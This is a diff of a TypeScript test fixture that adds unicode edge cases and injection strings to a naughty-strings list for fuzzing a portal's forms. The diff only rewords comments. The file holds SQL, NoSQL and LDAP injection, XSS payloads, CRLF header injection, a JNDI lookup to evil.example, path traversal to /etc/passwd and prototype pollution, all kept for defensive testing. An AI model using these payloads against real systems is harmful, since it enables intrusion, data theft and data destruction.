@@ -4,13 +4,13 @@ import { plainText } from '../../apps/portal/src/forms/draft.js';
 const BIG_LIST = createRequire(import.meta.url)('big-list-of-naughty-strings') as string[];
 
 /**
- * What the big list has too little of for us: right-to-left text and what turns its direction, scripts that need more than
- * one code point for what a reader sees, signs that are not seen at all, ends of lines that would begin a header, and
- * openings of the languages that our texts are put into (SQL, HTML, templates, spreadsheets, addresses, JSON).
- * What does not show is written as an escape.
+ * Additions to the list: right-to-left text and direction controls, scripts with several
+ * code points per visible character, invisible characters, line ends that would begin a header, and
+ * syntax of the languages that our texts are inserted into (SQL, HTML, templates, spreadsheets, URLs, JSON).
+ * Invisible characters are written as escapes.
  */
 const FURTHER: string[] = [
-  // Scripts: of many signs per letter, of a case of their own, of the supplementary planes.
+  // Scripts: combining characters, special case rules, supplementary planes.
   'የሰው ልጅ ሁሉ ሲወለድ ነጻና በክብር እኩል ነው',
   'சென்னை மாநகராட்சிக்கு ஒரு புகார்',
   'क्षत्रिय ज्ञानी श्रृंखला',
@@ -27,12 +27,12 @@ const FURTHER: string[] = [
   '𐎠𐎡𐎢 𒀀𒀁 𓀀𓁐 𐤀𐤁',
   '𞸀𞸁 𞤀𞤣𞤤𞤢𞤥',
   '፩፪፫ ०१२ ۰۱۲ 𝟘𝟙𝟚 ㊀㊁㊂',
-  // One text in two forms of Unicode, and letters under more marks than a font has.
+  // One text in two Unicode normal forms, and stacked combining marks.
   'e\u0301 \u00e9 A\u030a \u00c5 \u212b',
   '\u1100\u1161\u11a8 \uac01',
   'ﬀ ﬃ ﬆ ㎏ ℡ ㏂',
   `o${'\u0308\u0323\u0489'.repeat(60)}`,
-  // Direction: overrides without an end, isolates, a file name turned round.
+  // Direction: unterminated overrides, isolates, a reversed file name.
   '\u202egnp.exe',
   'مرفق \u202excod.exe\u202c نهاية',
   '\u2066\u2067\u2068abc',
@@ -40,7 +40,7 @@ const FURTHER: string[] = [
   '\u200fabc\u200e עברית \u061cعربي',
   '123 ‎عدد 456 \u202b(789)\u202c',
   '\u202a'.repeat(130),
-  // Not seen: zero widths, joiners, soft hyphens, fillers, variation selectors, tags, noncharacters.
+  // Invisible: zero widths, joiners, soft hyphens, fillers, variation selectors, tags, noncharacters.
   'a\u200bb\u200cc\u200dd\u2060e\ufefff',
   '\u200d\u200d\u200d',
   'soft\u00adhyphen\u00ad',
@@ -58,7 +58,7 @@ const FURTHER: string[] = [
   '🇴🇲🇸🇦🇶🇦 🇴',
   '🏿🏿 \u200d👩\u200d #️⃣*️⃣',
   '🫨'.repeat(120),
-  // Ends of lines, and what would follow them in a protocol.
+  // Line ends, followed by protocol commands.
   'one\r\ntwo\rthree\nfour\n\n\n\nfive',
   'x\r\nSet-Cookie: session=stolen; Path=/',
   'x\r\nBcc: everyone@contact.example\r\n\r\nA body of its own',
@@ -69,7 +69,7 @@ const FURTHER: string[] = [
   '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
   'a\u0000b',
   'bell\u0007back\u0008space\u007f',
-  // SQL, and the languages of searches and patterns in it.
+  // SQL, and search and pattern syntax.
   "'; DELETE FROM ticket; --",
   "' OR ''='",
   "') UNION SELECT password_hash FROM staff --",
@@ -86,7 +86,7 @@ const FURTHER: string[] = [
   '{"$gt":""} {"$where":"sleep(1000)"}',
   '*)(uid=*))(|(uid=*',
   "' or count(/*)=1 or 'a'='b",
-  // HTML, scripts, styles, and pages that were put together from text.
+  // HTML, scripts, styles, and template injection.
   '<details open ontoggle=alert(1)>x</details>',
   '<svg/onload=alert(1)//',
   '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
@@ -104,7 +104,7 @@ const FURTHER: string[] = [
   '${jndi:ldap://evil.example/a} %{(#a=1)}',
   '{0} {1} %s %n %x %d {name} {count, plural, other {#}}',
   '__proto__ constructor.prototype {"__proto__":{"role":"administrator"}}',
-  // Paths and addresses.
+  // Paths and URLs.
   '../../../../../../etc/passwd',
   '..\\..\\..\\windows\\win.ini',
   '....//....//etc/passwd%00.png',
@@ -123,7 +123,7 @@ const FURTHER: string[] = [
   '@SUM(1+1)',
   '\t=1+1',
   '＝1+1',
-  // Numbers and dates at their edges.
+  // Numbers and dates at their limits.
   '-0',
   '9007199254740993',
   '170141183460469231731687303715884105728',
@@ -136,17 +136,17 @@ const FURTHER: string[] = [
   'epoch',
 ];
 
-/** Strings that have broken other systems. */
+/** The list and the additions. */
 export const NAUGHTY: string[] = [...BIG_LIST, ...FURTHER];
 
-/** As long as a subject or a search may be, without half a character at its end. */
+/** Cut to the maximum length of a subject or search, without splitting a surrogate pair. */
 export const cut = (text: string) =>
   text
     .slice(0, 200)
     .replace(/[\ud800-\udbff]$/, '')
     .trim();
 
-/** Several strings as one text each, none longer than allowed. */
+/** Several strings joined into texts of at most the given length. */
 export function gathered(most: number): string[] {
   const texts = [''];
   for (const line of NAUGHTY.map((text) => plainText(text).trim()).filter(Boolean)) {
